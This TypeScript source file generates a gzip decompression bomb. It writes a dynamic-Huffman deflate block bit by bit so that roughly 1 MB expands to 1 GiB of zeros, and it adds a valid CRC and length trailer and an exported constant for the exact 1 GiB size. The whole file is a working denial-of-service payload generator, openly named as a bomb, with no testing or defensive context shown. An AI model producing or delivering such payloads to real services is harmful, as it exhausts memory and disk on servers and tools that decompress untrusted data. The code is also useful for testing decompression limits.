/**
 * A deflate bomb written bit by bit: one dynamic Huffman block whose "copy 258 bytes from 1 back" costs 2
 * bits, the densest deflate there is (1032 bytes per input byte), so 1 GiB of zeros takes about 1 MB.
 */
import { Buffer } from 'node:buffer';
import { crc32 } from 'node:zlib';

class BitWriter {
  private readonly bytes: Uint8Array;
  private bit = 0;

  constructor(capacityBits: number) {
    this.bytes = new Uint8Array(Math.ceil(capacityBits / 8) + 1);
  }

  /** An integer field, least significant bit first. */
  int(value: number, width: number): void {
    for (let i = 0; i < width; i++) this.push((value >> i) & 1);
  }

  /** A Huffman code, most significant bit first. */
  code(bits: string): void {
    for (const b of bits) this.push(b === '1' ? 1 : 0);
  }

  /** `count` zero bits, without touching the (already zero) bytes. */
  zeros(count: number): void {
    this.bit += count;
  }

  private push(value: number): void {
    if (value) this.bytes[this.bit >> 3] |= 1 << (this.bit & 7);
    this.bit++;
  }

  done(): Uint8Array {
    return this.bytes.subarray(0, Math.ceil(this.bit / 8));
  }
}

/** Order in which the code-length code's lengths are sent (RFC 1951, 3.2.7). */
const CODE_LENGTH_ORDER = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15];

/**
 * Raw deflate of `4 + 258 * matches` zero bytes: four literal zeros, then `matches` copies of 258 bytes at
 * distance 1. Literal/length code: 285 (length 258) = "0", 0 = "10", 256 (end) = "11"; distance 1 = "0".
 */
export function zeroBomb(matches: number): Uint8Array {
  const out = new BitWriter(400 + 2 * matches);
  out.int(1, 1); // final block
  out.int(2, 2); // dynamic Huffman
  out.int(286 - 257, 5); // literal/length codes 0..285
  out.int(1 - 1, 5); // one distance code
  out.int(18 - 4, 4); // code-length code lengths sent, up to the one for symbol 1
  // Code-length code: 18 (run of zeros) = "0", 1 = "10", 2 = "11".
  const lengths: Record<number, number> = { 18: 1, 1: 2, 2: 2 };
  for (const symbol of CODE_LENGTH_ORDER.slice(0, 18)) out.int(lengths[symbol] ?? 0, 3);
  const zerosRun = (count: number) => {
    out.code('0');
    out.int(count - 11, 7);
  };
  out.code('11'); // literal 0: length 2
  zerosRun(138); // literals 1..138
  zerosRun(117); // literals 139..255
  out.code('11'); // 256: length 2
  zerosRun(28); // 257..284
  out.code('10'); // 285: length 1
  out.code('10'); // distance code 0: length 1
  for (let i = 0; i < 4; i++) out.code('10'); // literal 0
  out.zeros(2 * matches); // length 258 ("0"), distance 1 ("0")
  out.code('11'); // end of block
  return out.done();
}

/** CRC-32 of `size` zero bytes, without holding them. */
function zerosCrc32(size: number): number {
  const block = Buffer.alloc(1 << 20);
  let crc = 0;
  for (let left = size; left > 0; left -= block.length)
    crc = crc32(block.subarray(0, Math.min(left, block.length)), crc);
  return crc;
}

/** A valid gzip member of `4 + 258 * matches` zero bytes, checksum and length included. */
export function gzipZeroBomb(matches: number): Uint8Array {
  const size = 4 + 258 * matches;
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(zerosCrc32(size), 0);
  trailer.writeUInt32LE(size >>> 0, 4);
  return Buffer.concat([Uint8Array.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255), zeroBomb(matches), trailer]);
}

/** Matches for exactly 1 GiB: 4 + 258 * 4,161,790 = 2^30. */
export const GIB_MATCHES = ((1 << 30) - 4) / 258;
